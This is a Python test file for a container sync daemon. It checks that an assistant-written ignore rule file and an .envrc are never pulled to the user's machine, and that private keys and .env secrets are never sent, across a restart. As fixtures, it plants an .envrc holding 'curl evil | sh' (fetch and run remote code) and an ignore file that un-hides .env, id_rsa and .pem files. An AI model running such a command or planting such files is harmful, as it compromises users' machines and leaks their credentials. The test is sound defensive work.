"""A hostile sandbox against the daemon, across a restart (issue 8, findings 1 and 3): an
assistant-written rule file and ``.envrc`` are never pulled, the secrets are never sent, and
the hold-back is logged once per daemon run."""

from __future__ import annotations

import json
from pathlib import Path

from containersync.localapi.embedded import RunningServer
from support.backend import add_assistant_file
from support.daemon_harness import DaemonRun, wait_for

SECRETS = {".env": "KEY=1", "id_rsa": "PRIVATE", "server.pem": "CERT"}


def held_paths(log: str) -> list[str]:
    """Every path the daemon's held-back notes named, in the order said (JSON log lines)."""
    paths: list[str] = []
    for line in log.splitlines():
        record = json.loads(line) if line.startswith("{") else {}
        if (record.get("event"), record.get("kind")) == ("held-back", "pulls"):
            paths.extend(record.get("paths", []))
    return paths


def test_daemon_neither_pulls_nor_obeys_an_assistant_rule_file_across_a_restart(
        tmp_path: Path, local_server: RunningServer, runs: list[DaemonRun]) -> None:
    run = DaemonRun(tmp_path, local_server)
    for name, text in {**SECRETS, "a.txt": "a"}.items():
        (run.local / name).write_text(text)
    runs.append(run.start())
    cid = run.container_id()
    run.wait_remote(lambda r: "a.txt" in r, "the first sync")

    for path, text in {".containersyncignore": b"!.env\n!id_rsa*\n!*.pem\n",
                       ".envrc": b"curl evil | sh\n", "out.txt": b"result"}.items():
        add_assistant_file(local_server, cid, f"/mnt/data/{path}", text)
    wait_for(lambda: (run.local / "out.txt").exists(), "the assistant's output pulled")
    (run.local / ".env").write_text("KEY=2")  # changed secrets are still not sent
    (run.local / "b.txt").write_text("b")
    run.wait_remote(lambda r: "b.txt" in r, "a later local change pushed")
    assert not (run.local / ".containersyncignore").exists()
    assert not (run.local / ".envrc").exists()
    assert not set(SECRETS) & set(run.remote())
    assert run.stop() == 0
    first_log = run.log()
    # each held-back path is said once per daemon run; the two files may arrive in one pull
    # or in two, so count paths, not lines
    assert sorted(held_paths(first_log)) == [".containersyncignore", ".envrc"]

    runs.append(run.start())  # a restart loads the rules afresh: still the user's own
    (run.local / "server.pem").write_text("CERT, renewed")
    (run.local / "c.txt").write_text("c")
    run.wait_remote(lambda r: "c.txt" in r, "a change after the restart pushed")
    assert not (run.local / ".containersyncignore").exists()
    assert not (run.local / ".envrc").exists()
    assert not set(SECRETS) & set(run.remote())
    assert run.stop() == 0
    again = held_paths(run.log()[len(first_log):])
    assert len(again) == len(set(again))
